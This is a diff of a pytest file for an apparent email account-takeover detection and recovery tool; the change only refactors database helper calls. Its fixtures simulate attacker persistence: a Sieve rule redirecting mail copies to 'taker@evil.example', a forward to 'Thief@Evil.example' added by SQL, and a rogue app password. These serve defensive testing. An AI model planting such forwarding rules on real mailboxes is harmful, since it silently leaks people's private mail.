@@ -10,7 +10,7 @@ import pytest
 
 from labkit import wait_for
 from test_attack import ABROAD, send_as_hijacker, strangers
-from test_recovery import HOME, own_day, path, standing, store_rows
+from test_recovery import HOME, own_day, path, standing
 
 MINE = 'require ["fileinto"];\r\n# ふるい\r\nif header :is "subject" "list" { fileinto "Junk"; }\r\n'
 THEIRS = 'require ["copy"];\nredirect :copy "taker@evil.example";\n'
@@ -21,13 +21,13 @@ def owner(lab, people):
     """Somebody with a forward, a script and an app password of their own, since before today."""
     owner = people[0]
     # A new account comes with what it has; nobody hears of it.
-    store_rows(lab, "UPDATE mailbox SET created = datetime('now', '+1 day') WHERE username = ?",
+    lab.store_rows("UPDATE mailbox SET created = datetime('now', '+1 day') WHERE username = ?",
                owner)
     lab.stop_daemon()
-    store_rows(lab, "CREATE TABLE IF NOT EXISTS mailbox_app_password (id INTEGER PRIMARY KEY "
+    lab.store_rows("CREATE TABLE IF NOT EXISTS mailbox_app_password (id INTEGER PRIMARY KEY "
                     "AUTOINCREMENT, username VARCHAR(255) NOT NULL, description VARCHAR(255), "
                     "password_hash VARCHAR(255))")
-    store_rows(lab, "UPDATE alias SET goto = ? WHERE address = ?", f"{owner}, {home_of(owner)}",
+    lab.store_rows("UPDATE alias SET goto = ? WHERE address = ?", f"{owner}, {home_of(owner)}",
                owner)
     add_app_password(lab, owner, "own phone", "$6$own")
     assert lab.doveadm("sievePut", user=owner, scriptname="mine", file=MINE) == []
@@ -35,7 +35,7 @@ def owner(lab, people):
     lab.start_daemon()
     wait_for(lambda: {"forward", "sieve_active", "app_password"} <=
              {way["kind"] for way in in_force(lab, owner)}, 30, "the watch knowing all of it")
-    store_rows(lab, "UPDATE mailbox SET created = datetime('now', '-1 day') WHERE username = ?",
+    lab.store_rows("UPDATE mailbox SET created = datetime('now', '-1 day') WHERE username = ?",
                owner)
     own_day(lab, owner)
     return owner
@@ -46,7 +46,7 @@ def home_of(owner):
 
 
 def add_app_password(lab, owner, description, hashed):
-    store_rows(lab, "INSERT INTO mailbox_app_password(username, description, password_hash) "
+    lab.store_rows("INSERT INTO mailbox_app_password(username, description, password_hash) "
                     "VALUES(?, ?, ?)", owner, description, hashed)
 
 
@@ -59,15 +59,15 @@ def on_disk(lab, owner):
     scripts = {one["script"]: lab.doveadm("sieveGet", user=owner, scriptname=one["script"])
                for one in lab.doveadm("sieveList", user=owner)}
     active = [one["script"] for one in lab.doveadm("sieveList", user=owner) if one["active"]]
-    return (store_rows(lab, "SELECT address, goto, domain, created, active FROM alias "
+    return (lab.store_rows("SELECT address, goto, domain, created, active FROM alias "
                             "WHERE address = ?", owner),
-            store_rows(lab, "SELECT * FROM mailbox_app_password WHERE username = ? ORDER BY id",
+            lab.store_rows("SELECT * FROM mailbox_app_password WHERE username = ? ORDER BY id",
                        owner), scripts, active)
 
 
 def plant(lab, owner):
     """As a thief does in PostfixAdmin and the webmail's filters."""
-    store_rows(lab, "UPDATE alias SET goto = goto || ',Thief@Evil.example', modified = datetime() "
+    lab.store_rows("UPDATE alias SET goto = goto || ',Thief@Evil.example', modified = datetime() "
                     "WHERE address = ?", owner)
     add_app_password(lab, owner, "printer", "$6$thief")
     sieve, answer = lab.sieve(owner, client=ABROAD[0])
@@ -197,7 +197,7 @@ def test_the_command_line_shows_and_answers(lab, owner):
         planted = ways(lab, incident)["forward", "thief@evil.example"]
         run("incident", "revert", str(incident), str(planted["id"]), "--reason", "盗まれました")
         assert "戻した" in run("incident", "ways", str(incident))
-        [[goto]] = store_rows(lab, "SELECT goto FROM alias WHERE address = ?", owner)
+        [[goto]] = lab.store_rows("SELECT goto FROM alias WHERE address = ?", owner)
         assert goto == f"{owner}, {home_of(owner)}"
         wrong = lab.sekimori("incident", "keep", str(incident), "999999")
         assert wrong.returncode == 1
